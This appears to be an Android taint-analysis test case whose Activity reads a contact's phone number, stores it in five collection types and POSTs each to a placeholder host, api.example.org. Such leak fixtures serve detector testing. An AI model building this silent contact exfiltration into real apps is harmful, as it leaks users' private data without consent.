// What is asked of an object is a part of it, and the data is added to the part.
package cases.flow_parts;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            bundle();
            map();
            arrayMap();
            libraryMap();
            sparse();
        } catch (Exception e) {
            Log.w("cases", "later");
        }
    }

    private void bundle() throws Exception {
        String text = first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null));
        Bundle groups = new Bundle();
        groups.putStringArrayList("friends", new ArrayList<>());
        groups.getStringArrayList("friends").add(text);
        send(groups.toString());
    }

    private void map() throws Exception {
        String text = first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null));
        Map<String, List<String>> groups = new HashMap<>();
        groups.put("friends", new ArrayList<>());
        groups.get("friends").add(text);
        send(groups.toString());
    }

    private void arrayMap() throws Exception {
        String text = first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null));
        android.util.ArrayMap<String, List<String>> groups = new android.util.ArrayMap<>();
        groups.put("friends", new ArrayList<>());
        groups.get("friends").add(text);
        send(groups.toString());
    }

    private void libraryMap() throws Exception {
        String text = first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null));
        androidx.collection.ArrayMap<String, List<String>> groups = new androidx.collection.ArrayMap<>();
        groups.put("friends", new ArrayList<>());
        groups.get("friends").add(text);
        send(groups.toString());
    }

    private void sparse() throws Exception {
        String text = first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null));
        android.util.SparseArray<List<String>> groups = new android.util.SparseArray<>();
        groups.put(1, new ArrayList<>());
        groups.get(1).add(text);
        send(groups.toString());
    }

    static String first(Cursor rows) {
        rows.moveToFirst();
        return rows.getString(0);
    }

    static void send(String text) throws Exception {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://api.example.org/v1/contacts").openConnection();
        connection.setDoOutput(true);
        connection.getOutputStream().write(text.getBytes());
        connection.getInputStream().close();
    }
}
